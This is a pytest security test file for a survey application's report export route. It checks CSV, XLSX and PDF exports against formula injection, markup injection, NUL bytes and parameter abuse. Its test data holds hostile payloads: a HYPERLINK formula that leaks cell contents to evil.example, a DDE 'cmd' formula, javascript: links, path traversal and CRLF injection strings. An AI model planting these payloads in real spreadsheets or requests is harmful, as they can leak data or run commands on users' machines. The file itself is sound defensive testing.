"""Rows 10-12, 14-15 (exports), 26, 27: formula injection in every free-text column of CSV and
XLSX (header rows too), separators and newlines kept in one cell, reportlab markup printed
and never fetched, NUL and emoji in exports, parameter abuse, bounded exports.

All through the real route /reports/export as the principal. tests/test_exports.py also
builds the PDF with markup in the school and procedure names (exports.export directly).
"""

import csv
import http.client
import io
import re
import socket
import threading
import time
import unicodedata
from datetime import datetime
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from survey_app.extensions import db
from survey_app.reports import periods, row_sheets
from tests.security.conftest import login

JAN = "2020-01"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
SEPARATORS = ['";=1+2', ",=1+2", "dòng một\n=1+2", 'a"b""c,d;e\r\nf']
SHORT = ["=1+1", "+1", "-1", "@A1"]  # for the 20-character class column


def _january(make, world_school, clerk_name="=cmd|' /C calc'!A0"):
    """Responses with a dangerous text in every free-text column, received in January 2020."""
    clerk = make.user("clerk", school=world_school)
    clerk.full_name = clerk_name
    texts = FORMULAS + SEPARATORS
    for i, text in enumerate(texts):
        dossier = make.dossier(
            school=world_school,
            received_at=datetime(2020, 1, 6 + i % 20, 9),
            returned_at=datetime(2020, 1, 27, 9),
            applicant_name=text,
            student_name=text,
            student_class=SHORT[i % len(SHORT)],
            received_by_id=clerk.id,
        )
        make.response(
            dossier,
            overall="dissatisfied",
            comment=text,
            submitted_at=datetime(2020, 1, 28, 9),
            reasons=["long_wait"],
        )
    db.session.commit()
    return texts


def _export(client, fmt, period=JAN, **params):
    return client.get("/reports/export", query_string={"period": period, "format": fmt, **params})


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_no_cell_of_any_free_text_column_is_a_formula(app, world, make):
    """Rows 10 + 11: comment, applicant, student, class, clerk name, school name (heading),
    in CSV and XLSX; every header row; separators, quotes and newlines stay in one cell."""
    school = world.a.school
    school.name = '=HYPERLINK("http://evil.example","Trường")'
    texts = _january(make, school)
    client, _token = login(app, world.a.principal)

    csv_response = _export(client, "csv")
    assert csv_response.status_code == 200
    table = _csv_cells(csv_response.data)
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    for text in texts:
        expected = "'" + text if text.startswith(DANGEROUS) else text
        assert expected in cells, repr(text)  # one cell, whole: no new cell or row
    assert "'" + school.name in cells[0]
    # Row 11: the responses section keeps one width; no row was split by a separator.
    header = next(row for row in table if "Góp ý" in row)
    start = table.index(header)
    body = [row for row in table[start + 1 : start + 1 + len(texts)]]
    assert {len(row) for row in body} == {len(header)}

    xlsx_response = _export(client, "xlsx")
    assert xlsx_response.status_code == 200
    values = []
    for cell in _xlsx_cells(xlsx_response.data):
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS), cell.value
            values.append(_xml_newlines(cell.value))
    for text in [*texts, *SHORT, "=cmd|' /C calc'!A0"]:
        expected = "'" + text if text.startswith(DANGEROUS) else text
        assert _xml_newlines(expected) in values, repr(text)
    # The raw sheet XML holds no <f> element at all (nothing Excel would evaluate).
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx_response.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _xml_newlines(text: str) -> str:
    """XML reads a bare CR as LF: compare XLSX text the way it reads back."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _listener():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(5)
    sock.setblocking(False)
    return sock, sock.getsockname()[1]


def _pdf_text(data: bytes) -> str:
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    return re.sub(r"\s+", "", unicodedata.normalize("NFC", text))


def test_reportlab_markup_is_printed_and_fetches_nothing(app, world, make, poster):
    """Row 12: markup in a comment (and in the names and the report number that the PDF does
    print) builds, shows literally, makes no outbound request, and carries no link."""
    sock, port = _listener()
    img = f'<img src="http://127.0.0.1:{port}/x.png"/>'
    markup = f'{img} <b>đậm & <font color="red"> <a href="javascript:alert(1)">x</a> <font'
    a = world.a
    a.school.name = f"Trường {img}"
    a.procedure.name = '<a href="javascript:alert(1)">Thủ tục</a> <b>& <font'
    db.session.commit()
    dossier = make.dossier(
        school=a.school,
        procedure=a.procedure,
        received_at=datetime(2020, 1, 6, 9),
        returned_at=datetime(2020, 1, 8, 9),
        applicant_name=markup,
    )
    make.response(dossier, overall="dissatisfied", comment=markup)
    filed = poster.post("reports.file_report", {"period": JAN, "number": f"<b>{port}</b>&<font"})
    assert filed.status_code == 303
    client, _token = login(app, a.principal)
    try:
        response = _export(client, "pdf")
        assert response.status_code == 200 and response.data.startswith(b"%PDF")
        with pytest.raises(BlockingIOError):
            sock.accept()  # nobody called the listener while the PDF was built
    finally:
        sock.close()
    text = _pdf_text(response.data)
    assert f'<IMGSRC="HTTP://127.0.0.1:{port}/X.PNG"/>' in text  # the school name, upper case
    assert '<ahref="javascript:alert(1)">Thủtục</a><b>&<font' in text  # the procedure
    assert f"<b>{port}</b>&<font" in text  # the report number
    assert "đậm" not in text  # the comment is not in the report sent upwards
    raw = response.data
    for pdf_action in (b"/URI", b"/JavaScript", b"/JS", b"/Launch", b"/Annots"):
        assert pdf_action not in raw, pdf_action


def test_exports_carry_no_nul_and_keep_emoji_and_rtl_as_text(app, world, make):
    """Rows 14 + 15 in the files: NUL never reaches a file (SQLite stores one if something
    slipped past the forms); emoji and U+202E round-trip as text; the file name is ASCII."""
    a = world.a
    emoji = "Cảm ơn 👍🏽👨‍👩‍👧 \u202eexe.txt"
    dossier = make.dossier(
        school=a.school, received_at=datetime(2020, 1, 6, 9), returned_at=datetime(2020, 1, 8, 9)
    )
    make.response(dossier, overall="satisfied", comment=emoji)
    with_nul = db.engine.dialect.name == "sqlite"
    if with_nul:  # PostgreSQL refuses NUL in text: nothing can be stored to leak
        other = make.dossier(
            school=a.school,
            received_at=datetime(2020, 1, 7, 9),
            returned_at=datetime(2020, 1, 8, 9),
            applicant_name="Tên\x00ẩn",
        )
        make.response(other, overall="satisfied", comment="a\x00b")
    a.school.code = 'A\u202eB"C'
    db.session.commit()
    client, _token = login(app, a.principal)
    for fmt in ("csv", "xlsx", "pdf"):
        response = _export(client, fmt)
        assert response.status_code == 200, fmt
        disposition = response.headers["Content-Disposition"]
        assert disposition.isascii() and "\u202e" not in disposition and '"C' not in disposition
        assert disposition == f"attachment; filename=bao-cao-ABC-{JAN}.{fmt}"
        if fmt == "csv":
            assert b"\x00" not in response.data
            assert emoji in [c for row in _csv_cells(response.data) for c in row]
        elif fmt == "xlsx":
            values = [c.value for c in _xlsx_cells(response.data) if isinstance(c.value, str)]
            assert emoji in values
            assert not [v for v in values if "\x00" in v]
            if with_nul:
                assert "ab" in values and "Tênẩn" in values
        else:
            assert (
                b"\x00" not in PdfReader(io.BytesIO(response.data)).pages[0].extract_text().encode()
            )


@pytest.mark.parametrize(
    "query",
    [
        "period=2024-13&format=pdf",
        "period=2024-00&format=csv",
        "period=../../etc/passwd&format=csv",
        "period=2020-01&format=exe",
        "period=2020-01&format=../../x",
        "period=2020-01&format=pdf%00",
        "period=2020-01&format=PDF",
        "period=2024-01%0d%0aX:1&format=csv",
        "period=9999-01&format=csv",
        "period=1999&format=csv",
        "period=2020-01-01..2020-02-30&format=csv",
        "period=all&format=csv",
        "period=2015-01-01..2024-12-31&format=xlsx",
        "period=2020-01",
        "format=pdf",
        "",
    ],
)
def test_export_parameter_abuse_is_400_with_no_file(app, make, query):
    """Row 26 (and the 10-year range of row 27): 400, no attachment, the HTML error page."""
    user = make.user("principal")
    client = app.test_client()
    from tests.conftest import PASSWORD, csrf_token_from

    token = csrf_token_from(client.get("/login").get_data(as_text=True))
    client.post(
        "/login", data={"username": user.username, "password": PASSWORD, "csrf_token": token}
    )
    response = client.get(f"/reports/export?{query}")
    assert response.status_code in (400, 404), query
    assert "Content-Disposition" not in response.headers
    assert response.mimetype == "text/html"


def test_file_name_and_type_are_the_servers_whatever_is_asked(app, world):
    """Row 26: the name comes from the validated period and the school code; the type is
    fixed per format, whatever the Accept header or extra parameters say."""
    client, _token = login(app, world.a.principal)
    media = {
        "csv": "text/csv",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "pdf": "application/pdf",
    }
    for fmt, mimetype in media.items():
        response = client.get(
            "/reports/export",
            query_string={
                "period": "2020-Q1",
                "format": fmt,
                "filename": "../../evil.exe",
                "download_name": "evil.exe",
                "mimetype": "text/html",
            },
            headers={"Accept": "text/html"},
        )
        assert response.status_code == 200
        assert response.mimetype == mimetype
        assert response.headers["Content-Disposition"] == (
            f"attachment; filename=bao-cao-AAA-2020-Q1.{fmt}"
        )
        assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_exports_are_bounded_and_parallel_ones_leave_the_site_answering(
    app, world, make, live_server, monkeypatch
):
    """Row 27: a row cap exists (and shows in the file), custom ranges stop at three years,
    ten exports at once still leave /healthz answering quickly."""
    assert 0 < row_sheets.ROW_LIMIT <= 100_000
    assert periods.MAX_CUSTOM_DAYS <= 3 * 366 + 1
    for i in range(4):
        dossier = make.dossier(school=world.a.school, received_at=datetime(2020, 1, 6 + i, 9))
        make.response(dossier, comment=f"Góp ý {i}")
    monkeypatch.setattr(row_sheets, "ROW_LIMIT", 2)
    client, _token = login(app, world.a.principal)
    capped = _export(client, "csv")
    text = capped.data.decode("utf-8-sig")
    assert "Chỉ xuất 2 dòng đầu." in text and "Góp ý 2" not in text
    monkeypatch.setattr(row_sheets, "ROW_LIMIT", 50_000)
    # Ten exports of a whole year at once, over real HTTP, beside a health check.
    cookie = f"hl_session={client.get_cookie('hl_session').value}"
    parts = urlsplit(live_server.url)

    def get(path, headers=None):
        conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
        try:
            conn.request("GET", path, headers=headers or {})
            response = conn.getresponse()
            return response.status, response.read()
        finally:
            conn.close()

    results = []
    threads = [
        threading.Thread(
            target=lambda f=fmt: results.append(
                get(f"/reports/export?period=2020&format={f}", {"Cookie": cookie})[0]
            )
        )
        for fmt in ("csv", "xlsx") * 5
    ]
    start = time.perf_counter()
    for thread in threads:
        thread.start()
    health_start = time.perf_counter()
    assert get("/healthz")[0] == 200
    health = time.perf_counter() - health_start
    for thread in threads:
        thread.join(60)
    assert results == [200] * 10
    assert health < 5 and time.perf_counter() - start < 30
